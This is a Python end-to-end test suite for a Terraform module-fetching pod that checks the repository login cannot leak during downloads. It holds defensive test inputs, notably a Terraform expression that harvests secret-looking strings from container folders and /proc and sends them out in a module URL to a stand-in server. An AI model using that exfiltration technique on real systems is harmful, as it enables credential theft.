"""Whoever wrote the configuration, or a module of a third party, does not get the repository's login during ``get``.

Real containers with the mounts, the user and the environment of real pods; the real tool, the real Git and OpenSSH.
"""

import os
import socket
import subprocess
from pathlib import Path
from urllib.parse import urlsplit

import pytest

from magos.api.runnerpod import Stage
from magos.local.servers.mirror import ReleaseMirror
from tests.e2e.git.servers import Repository, http_server
from tests.e2e.hostile.fetchpod import FetchPod
from tests.e2e.hostile.origins import Origin, http_origin, ssh_origin, stranger

pytestmark = pytest.mark.skipif(os.getuid() != 0, reason="containers with their own user need root")

_FOLDERS = ("/tmp", "/work", "/scratch", "/dev/shm", "/workspace-data", "/run")  # noqa: S108 - of the container


@pytest.fixture
def pod(tmp_path: Path, origin: Origin, mirror: ReleaseMirror) -> FetchPod:
    return FetchPod(tmp_path / "pod", origin, mirror)


def module(name: str, source: str) -> str:
    return f'module "{name}" {{\n  source = {source}\n}}\n'


def logins_in(*folders: str) -> str:
    """An expression of the tool: what looks like a login in all files of ``folders``, in one string."""
    parts = []
    for folder in folders:
        content = f'try(file("{folder}/${{f}}"), "")'
        # In two parts, or the expression would find itself.
        words = ('["can", "ary"]', '["PRIV", "ATE"]')
        looks = " || ".join(f'strcontains({content}, join("", {word}))' for word in words)
        names = "{environ,cmdline,maps}" if folder.startswith("/proc") else "**"
        parts.append(f'[for f in fileset("{folder}", "{names}") : {content} if try({looks}, false)]')
    return f'join(",", concat({", ".join(parts)}))'


@pytest.mark.parametrize("folder", ["/tmp", "/work"])  # noqa: S108 - of the container
def test_modules_that_are_folders_of_the_container_copy_no_login(pod: FetchPod, folder: str) -> None:
    pod.fetch({"main.tf": module("a", f'"{folder}"') + module("b", f'"{folder}"')})
    assert pod.leaks() == []


@pytest.mark.parametrize("by", ["the configuration", "a module of a third party"])
def test_a_source_that_is_computed_from_files_carries_no_login_away(pod: FetchPod, tmp_path: Path, by: str) -> None:
    stolen = f"substr(base64encode({logins_in(*_FOLDERS, '/proc/1', '/proc/self')}), 0, 6000)"
    with stranger() as somebody, http_server(tmp_path) as other:
        text = module("a", f'"{somebody.url}/x${{{stolen}}}.zip"')
        if by != "the configuration":
            Repository(tmp_path, "theirs.git", "main").commit({"main.tf": text})
            text = module("theirs", f'"git::{other.url}/theirs.git?ref=main"')
        pod.fetch({"main.tf": text})
    assert {path.removesuffix("?terraform-get=1") for path in somebody.asked} == {"/x.zip"}, pod.pod.log(Stage.FETCH)
    assert pod.leaks() == []


def test_a_login_that_is_turned_around_does_not_reach_the_log(pod: FetchPod) -> None:
    log = pod.fetch({"main.tf": module("a", f'"./x${{strrev({logins_in(*_FOLDERS)})}}"')})
    assert "get failed" in log
    assert pod.leaks() == []


_HOLDER = "import sys; held = sys.stdin.readline(); print('ready', flush=True); sys.stdin.read()"


def test_the_search_of_a_pod_finds_a_login_wherever_it_is(pod: FetchPod) -> None:
    """Without this nobody would know whether the other tests look at all."""
    canary = pod.origin.canaries[0]
    with stranger() as somebody, pod.caught({}, somebody) as pid:
        planted = pod.pod.volume / "planted"
        planted.write_text(f"x{canary}x")
        planted.chmod(0o644)
        command = pod.inside(pid, "-c", _HOLDER, canary)
        with subprocess.Popen(
            command, stdin=subprocess.PIPE, stdout=subprocess.PIPE, env={"X": canary}, text=True
        ) as holder:
            assert holder.stdin is not None
            assert holder.stdout is not None
            holder.stdin.write(f"{canary}\n")
            holder.stdin.flush()
            assert holder.stdout.readline() == "ready\n"
            found = pod.prowl(pid, "files", "proc")["found"]["login"]
            holder.stdin.close()
        planted.unlink()
    assert {entry.split()[0] for entry in found} == {"file", "memory", "environ", "cmdline"}


def test_nothing_in_the_pod_holds_the_login_while_modules_are_downloaded(pod: FetchPod) -> None:
    with stranger() as somebody, pod.caught({}, somebody) as pid:
        told = pod.prowl(pid, "files", "proc")
    assert told["found"]["login"] == []
    assert told["searched"]["file"] > 10
    # The runner and the tool: neither can be looked into.
    assert told["searched"]["memory refused"] == told["searched"]["environ refused"] == 2
    assert pod.leaks() == []


def test_the_proxy_only_fetches_and_never_shows_the_login(tmp_path: Path, mirror: ReleaseMirror) -> None:
    with http_origin(tmp_path / "origin") as origin, stranger() as somebody:
        pod = FetchPod(tmp_path / "pod", origin, mirror)
        assert origin.http is not None
        password = origin.canaries[0]
        advertisement = "application/x-git-upload-pack-advertisement"
        origin.http.answers["/echo/info/refs"] = (200, advertisement, f"you are {password}".encode() * 3)
        with pod.caught({}, somebody) as pid:
            before = len(origin.http.seen)
            told = pod.prowl(pid, "proxy", "files", "proc", repository="/configuration.git")
            asked = [path for path, _ in origin.http.seen[before:]]
    assert told["found"]["login"] == []
    deeds = told["deeds"]
    assert deeds.pop("fetch").startswith("200 b'001e# service=git-upload-pack")
    assert deeds.pop("origin") == f"http 127.0.0.1 {origin.http.port}"
    assert deeds.pop("without the path").startswith("404 ")
    assert deeds.pop("put").startswith("501 ")
    assert "broken off" in deeds.pop("echo")
    assert {answer.partition(" ")[0] for answer in deeds.values()} == {"403"}
    refs = "/info/refs?service=git-upload-pack"
    assert sorted(asked) == sorted([f"/configuration.git{refs}", f"/echo{refs}"]), "nothing else reached the server"


def test_the_relay_only_fetches_and_nobody_reaches_its_client(tmp_path: Path, mirror: ReleaseMirror) -> None:
    with ssh_origin(tmp_path / "origin") as origin, ssh_origin(tmp_path / "other") as other, stranger() as somebody:
        # The other server would let the same key in, and its host key is known.
        authorized = (tmp_path / "origin/sshd/authorized").read_text()
        (tmp_path / "other/sshd/authorized").write_text(authorized)
        known = f"{origin.secret['known_hosts']}\n{other.secret['known_hosts']}\n"
        origin.secret = {**origin.secret, "known_hosts": known}
        pod = FetchPod(tmp_path / "pod", origin, mirror)
        here, there = urlsplit(origin.base), urlsplit(other.base)
        with pod.caught({}, somebody) as pid:
            repository = f"{origin.root}/configuration.git"
            told = pod.prowl(
                pid, "relay", repository=repository, user=here.username or "", host="127.0.0.1",
                port=str(here.port), other=str(there.port),
            )  # fmt: skip
    assert told["found"]["login"] == []
    deeds = told["deeds"]
    assert "refs/heads/main" in deeds.pop("fetch")
    assert "refs/heads/main" in deeds.pop("client that waits")
    assert deeds.pop("clients") == "1"
    assert {deeds.pop(f"{name} of the client") for name in ("mem", "environ", "maps", "fd")} == {"PermissionError"}
    assert deeds.pop("agent") in {"b''", "ConnectionResetError", "BrokenPipeError"}
    for strange in ("another port", "another user"):
        assert "Permission denied" in deeds.pop(strange)
    assert "not from this run" in deeds.pop("without the word")
    assert [name for name, answer in deeds.items() if "magos: ssh refused" not in answer] == []


def test_the_access_ends_with_the_download(pod: FetchPod) -> None:
    with stranger() as somebody, pod.caught({}, somebody) as pid:
        given = pod.access(pid)
        relay = "@" + given["MAGOS_GIT_RELAY"].split()[0]
        assert relay in Path("/proc/net/unix").read_text()
    assert relay not in Path("/proc/net/unix").read_text()
    if pod.origin.http is not None:
        with socket.socket() as probe:
            assert probe.connect_ex(("127.0.0.1", urlsplit(given["MAGOS_GIT_PROXY"]).port or 0)) != 0
    assert not Path(f"/proc/{pid}").exists()
    left = pod.pod.folder / "volumes"
    assert [path for name in ("work", "tmp") for path in (left / name).glob("*-*")] == []


def test_private_modules_and_submodules_of_the_origin_are_downloaded(pod: FetchPod) -> None:
    inner = pod.origin.repository("inner.git", {"main.tf": 'output "inner" {\n  value = 1\n}\n'})
    sha = subprocess.check_output(["git", "-C", str(inner.work), "rev-parse", "HEAD"], text=True).strip()
    outer = pod.origin.repository("outer.git", {"main.tf": 'output "outer" {\n  value = 2\n}\n'})
    (outer.work / ".gitmodules").write_text('[submodule "i"]\n\tpath = i\n\turl = ../inner.git\n')
    subprocess.run(
        ["git", "-C", str(outer.work), "update-index", "--add", "--cacheinfo", f"160000,{sha},i"], check=True
    )
    (outer.work / "i").mkdir()
    outer.commit({})
    log = pod.fetch({"main.tf": module("outer", f'"git::{pod.origin.url("outer.git")}?ref=main"')})
    assert "fetch done" in log, log
    assert pod.has_module('output "outer"')
    assert pod.has_module('output "inner"')
